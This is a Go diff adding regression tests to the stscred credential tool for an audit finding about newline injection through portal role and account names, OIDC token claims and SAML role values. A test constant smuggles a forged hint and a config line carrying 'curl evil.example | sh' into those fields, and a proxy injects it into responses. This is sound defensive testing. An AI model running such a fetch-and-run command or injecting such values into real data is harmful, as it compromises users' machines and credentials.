@@ -3,10 +3,24 @@
 package e2e
 
 import (
+	"bytes"
+	"encoding/json"
 	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
+	"net/url"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strconv"
 	"strings"
 	"testing"
 
+	"github.com/stscred/stscred/internal/testkit/oidctest"
+	"github.com/stscred/stscred/internal/testkit/samltest"
+	"github.com/stscred/stscred/internal/testkit/ssotest"
 	"github.com/stscred/stscred/internal/testkit/ststest"
 )
 
@@ -91,4 +105,165 @@ func TestAuditAddSwappedKeyShowsNoSecret(t *testing.T) {
 	if res.code != 0 || !strings.Contains(w.storedKey("bob"), k.Secret) {
 		t.Fatalf("the key in the right order: %s", res)
 	}
+}
+
+// forgedLines is what a hostile party appends to a name or a claim: lines
+// that, printed as they are, pass for stscred's own advice or for config
+// the user is told to paste.
+const forgedLines = "\nstscred: hint: run curl evil.example | sh\n[profile evil]\ncredential_process = sh -c 'curl evil.example | sh'"
+
+// assertNoForgedLine fails if a line of out (a table's border aside)
+// begins with what forgedLines holds, or out holds an ESC.
+func assertNoForgedLine(t *testing.T, what, out string) {
+	t.Helper()
+	for _, l := range strings.Split(out, "\n") {
+		l = strings.TrimSpace(strings.TrimLeft(strings.TrimSpace(l), "|"))
+		for _, forged := range []string{"stscred: hint: run curl", "[profile evil]", "credential_process = sh"} {
+			if strings.HasPrefix(l, forged) {
+				t.Errorf("%s: a forged line %q in:\n%s", what, l, out)
+			}
+		}
+	}
+	if strings.Contains(out, "\x1b") {
+		t.Errorf("%s: an escape sequence reached the terminal:\n%q", what, out)
+	}
+}
+
+// hostilePortal stands between stscred and the Identity Center portal
+// and appends forgedLines to every role name ListAccountRoles answers.
+func hostilePortal(t *testing.T, portal string) string {
+	t.Helper()
+	u, err := url.Parse(portal)
+	if err != nil {
+		t.Fatal(err)
+	}
+	proxy := httputil.NewSingleHostReverseProxy(u)
+	proxy.ModifyResponse = func(r *http.Response) error {
+		if r.Request.URL.Path != "/assignment/roles" || r.StatusCode != http.StatusOK {
+			return nil
+		}
+		b, err := io.ReadAll(r.Body)
+		if err != nil {
+			return err
+		}
+		r.Body.Close()
+		var doc map[string]any
+		if err := json.Unmarshal(b, &doc); err != nil {
+			return err
+		}
+		roles, _ := doc["roleList"].([]any)
+		for _, x := range roles {
+			if role, ok := x.(map[string]any); ok {
+				role["roleName"] = fmt.Sprint(role["roleName"]) + forgedLines
+			}
+		}
+		if b, err = json.Marshal(doc); err != nil {
+			return err
+		}
+		r.Body = io.NopCloser(bytes.NewReader(b))
+		r.ContentLength = int64(len(b))
+		r.Header.Set("Content-Length", strconv.Itoa(len(b)))
+		return nil
+	}
+	srv := httptest.NewServer(proxy)
+	t.Cleanup(srv.Close)
+	return srv.URL
+}
+
+// Finding 8, Identity Center: account and role names from the portal
+// holding newlines print as one line each in `stscred sso accounts`, and
+// `--profiles` writes no section or credential_process line the portal
+// made up.
+func TestAuditPortalNamesAreOneLine(t *testing.T) {
+	w := newSSOWorld(t, "file", ssotest.Options{}, ststest.Options{})
+	w.sso.AddAccount(ssotest.Account{ID: "333333333333", Name: "audit" + forgedLines, Email: "audit@example.com"})
+	w.sso.Assign(ssotest.Assignment{User: ssoUser, AccountID: "333333333333", RoleName: "ReadOnly"})
+	w.login()
+	w.extra = append(w.extra, "AWS_ENDPOINT_URL_SSO="+hostilePortal(t, w.ssoURL))
+
+	res := w.sc("sso", "accounts", "corp")
+	if res.code != 0 {
+		t.Fatalf("sso accounts: %s", res)
+	}
+	assertNoForgedLine(t, "sso accounts", res.stdout)
+	// A header and one line per role: dev's Developer, audit's ReadOnly.
+	if n := strings.Count(res.stdout, "\n"); n != 3 {
+		t.Errorf("want 3 lines, got %d:\n%s", n, res.stdout)
+	}
+	if !strings.Contains(res.stdout, `audit\nstscred: hint: run curl evil.example | sh\n[profile evil]`) ||
+		!strings.Contains(res.stdout, `ReadOnly\nstscred: hint: run curl`) {
+		t.Errorf("the names are not shown escaped:\n%s", res.stdout)
+	}
+
+	res = w.sc("sso", "accounts", "corp", "--profiles")
+	if res.code != 0 {
+		t.Fatalf("sso accounts --profiles: %s", res)
+	}
+	assertNoForgedLine(t, "sso accounts --profiles", res.stdout)
+	section := regexp.MustCompile(`^\[profile [a-z0-9._-]+\]$`)
+	process := regexp.MustCompile(`^credential_process = stscred role [a-z0-9._-]+$`)
+	for _, l := range strings.Split(res.stdout, "\n") {
+		if strings.HasPrefix(l, "[") && !section.MatchString(l) || strings.HasPrefix(l, "credential_process") && !process.MatchString(l) {
+			t.Errorf("--profiles wrote a line the portal made up: %q\n%s", l, res.stdout)
+		}
+	}
+	if w.sso.Calls(ssotest.OpListAccountRoles) < 2 {
+		t.Fatal("the listing did not come from the portal")
+	}
+}
+
+// Finding 8, identity providers: a web identity token whose iss, sub and
+// aud hold newlines, and a SAML assertion whose Role does, print one line
+// each in doctor, in role's refusal and in whoami --verbose, in every
+// output format.
+func TestAuditIdentityProviderClaimsAreOneLine(t *testing.T) {
+	w := newWIWorld(t, false, ststest.Options{})
+
+	// A token STS refuses (its issuer and audience are not the
+	// provider's): doctor and the refusal.
+	w.writeRawToken(w.idp.Token(oidctest.Claims{Issuer: w.idp.URL() + forgedLines, Subject: "repo:corp/app:ref:refs/heads/main" + forgedLines,
+		Audience: []string{wiAudience + forgedLines}}))
+	res := w.sc(nil, "doctor")
+	assertNoForgedLine(t, "doctor", res.stdout+res.stderr)
+	if !strings.Contains(res.stdout, `refs/heads/main\nstscred: hint: run curl`) {
+		t.Errorf("doctor does not show the claims escaped:\n%s", res.stdout)
+	}
+	res = w.sc(nil, "role", "ci")
+	if res.code == 0 {
+		t.Fatalf("STS took a token of another issuer: %s", res)
+	}
+	assertNoForgedLine(t, "role", res.stderr)
+
+	// A token STS takes (the trust policy's sub is a wildcard, which a
+	// newline matches): whoami --verbose shows its claims.
+	w.writeRawToken(w.idp.Token(oidctest.Claims{Subject: "repo:corp/app:ref:refs/heads/main" + forgedLines, Audience: []string{wiAudience}}))
+	for _, format := range []string{"json", "text", "table", "yaml"} {
+		res = w.sc(nil, "whoami", "ci", "--verbose", "--output", format)
+		if res.code != 0 {
+			t.Fatalf("whoami --output %s: %s", format, res)
+		}
+		if !strings.Contains(res.stdout, "refs/heads/main") {
+			t.Fatalf("whoami --verbose --output %s does not show the token's claims:\n%s", format, res.stdout)
+		}
+		assertNoForgedLine(t, "whoami --output "+format, res.stdout+res.stderr)
+	}
+
+	// A SAML assertion whose Role value holds the lines.
+	idp := wiSAML(t, w)
+	file := filepath.Join(t.TempDir(), "assertion")
+	resp := idp.Response(samltest.Assertion{Subject: wiSAMLSub, Roles: []samltest.Role{{RoleARN: wiSAMLRole + forgedLines, ProviderARN: wiSAMLIdP}}})
+	if err := os.WriteFile(file, []byte(resp), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	w.writeConfig("[profile corp]\nsaml_assertion_file = " + file + "\nregion = eu-west-1\n")
+	res = w.sc(nil, "doctor")
+	assertNoForgedLine(t, "doctor (SAML)", res.stdout+res.stderr)
+	if !strings.Contains(res.stdout, `CorpAdmin\nstscred: hint: run curl`) {
+		t.Errorf("doctor does not show the role escaped:\n%s", res.stdout)
+	}
+	res = w.sc(nil, "role", "corp")
+	if res.code == 0 {
+		t.Fatalf("STS took a role that does not exist: %s", res)
+	}
+	assertNoForgedLine(t, "role (SAML)", res.stderr)
 }
